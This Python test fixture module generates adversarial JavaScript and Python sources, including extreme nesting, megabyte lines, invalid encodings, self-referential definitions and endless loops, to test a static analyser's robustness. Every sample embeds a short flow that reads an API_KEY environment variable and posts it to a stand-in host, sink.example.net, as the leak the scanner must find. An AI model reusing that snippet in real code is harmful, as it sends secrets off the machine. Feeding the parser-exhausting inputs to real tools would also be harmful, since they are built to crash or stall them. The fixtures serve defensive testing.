"""Source texts made to break an analyser, for `test_robustness`.

In: nothing. Out: `HOSTILE`: name → (file name, bytes). `DEPTH` is how deep nesting goes. Every text but those that are no text at all
holds one plain flow (`_JS`, `_PY`) that a scan must still find, however bad the rest is.
"""

from __future__ import annotations

DEPTH = 100_000
_JS = 'const k = process.env.API_KEY; fetch("https://sink.example.net/", {method: "POST", body: k});\n'
_PY = 'import os, requests\nk = os.environ["API_KEY"]\nrequests.post("https://sink.example.net/", data=k)\n'


def _nested(before: str, opening: str, middle: str, closing: str) -> str:
    return before + opening * DEPTH + middle + closing * DEPTH


def _rows(pattern: str, count: int, separator: str = ",") -> str:
    return separator.join(pattern.format(number) for number in range(count))


_NO_TEXT: dict[str, tuple[str, bytes]] = {
    "empty.js": ("a.js", b""),
    "empty.ts": ("a.ts", b""),
    "empty.tsx": ("a.tsx", b""),
    "empty.py": ("a.py", b""),
    "only NUL.js": ("a.js", bytes(1000)),
    "only NUL.py": ("a.py", bytes(1000)),
    "binary.js": ("a.js", bytes(range(256)) * 40),
    "binary.py": ("a.py", bytes(range(256)) * 40),
    "UTF-16.js": ("a.js", _JS.encode("utf-16")),
    "UTF-16.py": ("a.py", _PY.encode("utf-16")),
    "only closing brackets.js": ("a.js", b")]}" * 5000),
    "only closing brackets.py": ("a.py", b")]}" * 5000),
}
_ENCODED: dict[str, tuple[str, bytes]] = {
    "byte order mark.js": ("a.js", b"\xef\xbb\xbf" + _JS.encode()),
    "byte order mark.py": ("a.py", b"\xef\xbb\xbf" + _PY.encode()),
    "CRLF.js": ("a.js", _JS.replace(";", ";\r\n").encode()),
    "CRLF.py": ("a.py", _PY.replace("\n", "\r\n").encode()),
    "invalid UTF-8.js": ("a.js", _JS.encode() + b'const x = "\xff\xfe\xc3"; // \x80\x81\n'),
    "invalid UTF-8.py": ("a.py", _PY.encode() + b'x = "\xff\xfe\xc3"  # \x80\x81\n'),
    "lone surrogates.js": ("a.js", _JS.encode() + b'const x = "\\ud800" + "\xed\xa0\x80" + "\\u{110000}" + "\\x"; fetch(x);\n'),
    "NUL in a comment.js": ("a.js", _JS.encode() + b"// \0\0\n"),
}
_JAVASCRIPT: dict[str, str] = {
    "one line of 1 MB": _JS.rstrip() + "var a = 1;" * 25_000 + 'x = "' + "y" * 750_000 + '";',
    "nested calls": _nested(_JS, "f(", "k", ")"),
    "nested arrows": _nested(_JS, "(() => ", "fetch(k)", ")"),
    "nested functions": _nested(_JS, "function f(){", "fetch(k)", "}"),
    "nested arrays": _nested(_JS + "x = ", "[", "k", "]"),
    "nested objects": _nested(_JS + "x = ", "{a:", "k", "}"),
    "nested blocks": _nested(_JS, "if(k){", "fetch(k)", "}"),
    "nested brackets": _nested(_JS + "x = ", "(", "k", ")"),
    "nested templates": _nested(_JS + "x = ", "`${", "k", "}`"),
    "nested classes": _nested(_JS, "class A{x=", "1", "}"),
    "opened only": _JS + "f([{" * 30_000,
    "many signs": _JS + "x = " + "!" * DEPTH + "k;",
    "long member path": _JS + "x = k" + ".a" * 50_000 + ";",
    "long method chain": _JS + "x = k" + ".f()" * 20_000 + ";",
    "long conditional": _JS + "x = " + "k ? 1 : " * 50_000 + "2;",
    "long else-if": _JS + "if (k) { a() } else " * 20_000 + "{ fetch(k) }",
    "concatenation": _JS + "fetch(" + " + ".join(['"a"'] * 20_000) + " + k);",
    "sequence": _JS + "x = (" + ", ".join(["k"] * 20_000) + ");",
    "recursion": _JS
    + (
        "function f(n) { return f(n - 1) + k } fetch(f(9));"
        'function a(x) { return b(x + "1") } function b(x) { return a(x + "2") } fetch(a(k));'
        "const o = {}; o.f = function () { return this.f() }; o.f();"
    ),
    "functions of functions": _JS
    + (
        "let f = x => x; for (;;) { const g = f; f = x => g(g(x)) } fetch(f(k));"
        "const Y = f => (x => x(x))(x => f(y => x(x)(y))); fetch(Y(f => n => f(n + k))(k));"
    ),
    "growing strings": _JS
    + (
        'let s = ""; for (;;) { s = s + "a" + k; s = `${s}${s}`; s = s.split("").reverse().join(""); s = s.replace("a", "bb");'
        " s = s.repeat(1e9).padEnd(2 ** 40) } fetch(s);"
    ),
    "growing objects": _JS + "let o = {}, p = []; for (;;) { o = {a: o, b: [o], ...o}; p = [p, ...p]; p.push(p) } fetch(o, p);",
    "generators": _JS
    + (
        "function* g() { yield* g(); yield k } for (const x of g()) fetch(x); async function* h() { for await "
        "(const x of h()) yield x }"
    ),
    "prototypes": _JS
    + (
        "const o = {}; o.__proto__ = o; Object.setPrototypeOf(o, o); o.x; Object.prototype.x = o; function F() {} F.prototype = F;"
        " F.prototype.constructor = F; new F().x.y; F.prototype.__proto__ = new F(); Object.assign(o, o, {o}); "
        "o[o] = o; o[k] = o[o[k]];"
    ),
    "classes of themselves": _JS
    + (
        "class A extends A {} new A(); class B extends C {} class C extends B { constructor() { super(...arguments); super.x() } }"
        " new B().x(); class D { static d = new D(); #p = this.#p; #m() { return this.#m() } static { this.d.#m() "
        "} } class E { #u() { fetch(k) } }"
    ),
    "getters": _JS
    + (
        "const o = {get x() { return this.x }, set x(v) { this.x = v }}; fetch(o.x); o.x = o.x;"
        " class G { get a() { return this.b } get b() { return this.a } static get s() { return G.s } } new G().a; G.s;"
        ' Object.defineProperty(o, "y", {get() { return o.y }}); o.y; new Proxy(o, {get(t, p, r) { return r[p] }}).z;'
    ),
    "iterators of themselves": _JS
    + (
        "const o = {[Symbol.iterator]() { return this }, next() { return this }, then(f) { f(this) }}; for (const "
        "x of o) fetch(await x);"
    ),
    "bindings of themselves": _JS
    + (
        "for (const a of a) { fetch(a) } for (let x in x) {} var y = [...y]; const {z = z} = z; const [q = q] = q;"
        " function d(a = d(a)) { return d() } d();"
    ),
    "modules of themselves": _JS
    + (
        'exports.x = exports; module.exports = module; exports.y = require("./a"); module.exports = require("./a.js")(module.exports);'
        'export * from "./a.js"; export {x as y} from "./a.js"; import * as s from "./a.js"; s.s.s; fetch(s.default.y(k));'
    ),
    "table of rows": _JS
    + "const t = ["
    + _rows('{{id: {0}, url: "https://h{0}.example.net/"}}', 50_000)
    + "]; for (const r of t) fetch(r.url + k);",
    "table by key": _JS + "const t = {" + _rows('k{0}: "https://h{0}.example.net/"', 50_000) + "}; fetch(t[k]);",
    "switch": _JS + "switch (k) {" + _rows('case "c{0}": fetch("https://h.example.net/" + k); break;', 1_000, "\n") + "}",
    "chain of variables": _JS + "var v0 = k;" + _rows("var v1{0} = v{0};", 20_000, "") + "fetch(v119999);",
    "chain of calls": _JS + _rows("function f{0}(x) {{ return g{0}(x) }} const g{0} = f1{0};", 5_000, "\n") + "fetch(f0(k));",
    "names of the prototype": _JS
    + (
        "const o = {__proto__: null, constructor: 1, hasOwnProperty: 2, toString: k}; o.__proto__.__proto__ = "
        "1; fetch(o.toString + o.constructor.name);"
        " class constructor {} function __proto__() {} exports.__proto__ = __proto__; import {default as then} "
        "from './a.js'; then.then(then);"
    ),
}
_PYTHON: dict[str, str] = {
    "one line of 1 MB": _PY + "a = 1;" * 40_000 + 'x = "' + "y" * 750_000 + '"\n',
    "nested calls": _nested(_PY, "f(", "k", ")") + "\n",
    "nested lambdas": _nested(_PY, "(lambda:", "requests.get(k)", ")") + "\n",
    "nested lists": _nested(_PY + "x = ", "[", "k", "]") + "\n",
    "nested dictionaries": _nested(_PY + "x = ", "{1:", "k", "}") + "\n",
    "nested functions": _PY + "".join(" " * depth + "def f():\n" for depth in range(900)) + " " * 900 + "requests.get(k)\n",
    "opened only": _PY + "f([{" * 30_000,
    "long elif": _PY + "if k:\n a()\n" + "elif k:\n a()\n" * 10_000,
    "long comparison": _PY + "x = " + " < ".join(["k"] * 20_000) + "\n",
    "concatenation": _PY + "requests.get(" + " + ".join(['"a"'] * 20_000) + " + k)\n",
    "recursion": _PY
    + (
        "def f(n):\n    return f(n - 1) + k\nrequests.get(f(9))\n"
        'def a(x):\n    return b(x + "1")\ndef b(x):\n    return a(x + "2")\nrequests.get(a(k))\n'
    ),
    "growing strings": _PY
    + 's = ""\nwhile True:\n    s = s + "a" + k\n    s = f"{s}{s}"\n    s = s[::-1].replace("a", "bb") * 1000\nrequests.get(s)\n',
    "growing numbers": _PY
    + 'n = 2\nwhile True:\n    n = n ** n << n\n    requests.get("x" * n + str(9 ** 9 ** 9) + "%9999999999d" % n)\n',
    "growing objects": _PY
    + 'o = {}\nwhile True:\n    o = {"a": o, "b": [o], **o}\n    o["c"] = o\nrequests.post("https://h.example.net/", json=o)\n',
    "generators": _PY + "def g():\n    yield from g()\n    yield k\nfor x in g():\n    requests.get(x)\n",
    "decorators": _PY
    + (
        "def d(f):\n    return d(d)(f)\n@d\n@d\ndef f(x):\n    return f\nf(f)(f)\n@f\nclass A(A):\n    @d\n   "
        " def x(self): return self.x\nA().x\n"
    ),
    "attributes of themselves": _PY
    + (
        "class A:\n    @property\n    def x(self):\n        return self.x\n    def __getattr__(self, n):\n    "
        "    return getattr(self, n)\n"
        "    def __call__(self):\n        return self()()\n    def __iter__(self):\n        return self\n    def "
        "__enter__(self):\n        with self as s:\n"
        "            return s\n    __getitem__ = __call__\nfor y in A():\n    requests.get(y)\nA()()[k]\nA().x.y\n"
    ),
    "classes of themselves": _PY
    + "class A(A, A, metaclass=A):\n    x = A.x\nclass B(C): pass\nclass C(B): pass\nB().x.y()\nA.__bases__ = (A,)\n",
    "bindings of themselves": _PY
    + "for a in a:\n    requests.get(a)\n[x for x in x for x in x]\nz = lambda x=x: z(x)\nz(z)\ndel k\nglobal k\n",
    "modules of themselves": _PY
    + "import a\nfrom a import *\nfrom a import b as c, c as b\nfrom . import a\na.a.a.b(c)\n__all__ = __all__ + a.__all__\n",
    "star imports of itself": _PY + "from a import *\n" * 3 + "print(nowhere(k))\n",
    "partial of itself": _PY
    + "from functools import partial\np = partial(p, p)\np = partial(partial, partial)(p)\nrequests.get(p(k))\n",
    "table of rows": _PY
    + "t = ["
    + _rows('{{"id": {0}, "url": "https://h{0}.example.net/"}}', 50_000)
    + ']\nfor r in t: requests.get(r["url"] + k)\n',
    "table by key": _PY + "t = {" + _rows('"k{0}": "https://h{0}.example.net/"', 50_000) + "}\nrequests.get(t[k])\n",
    "chain of calls": _PY + _rows("def f{0}(x): return f1{0}(x)", 5_000, "\n") + "\nrequests.get(f0(k))\n",
    "format strings": _PY
    + (
        'requests.get("{0.__class__.__init__[x]!r:{1}{2}}".format(k) + "{".format(k) + "}}{" % k + "%(x" % {} '
        '+ "{:{:{}}}".format(k, k, k))\n'
    ),
    "wrong indentation": _PY + "  if x:\n\t y\n      z\n def f(\n   return\nclass\n",
}

NO_TEXT = _NO_TEXT
HOSTILE: dict[str, tuple[str, bytes]] = {
    **_ENCODED,
    **{f"{name}, JavaScript": ("a.js", text.encode()) for name, text in _JAVASCRIPT.items()},
    **{f"{name}, Python": ("a.py", text.encode()) for name, text in _PYTHON.items()},
}
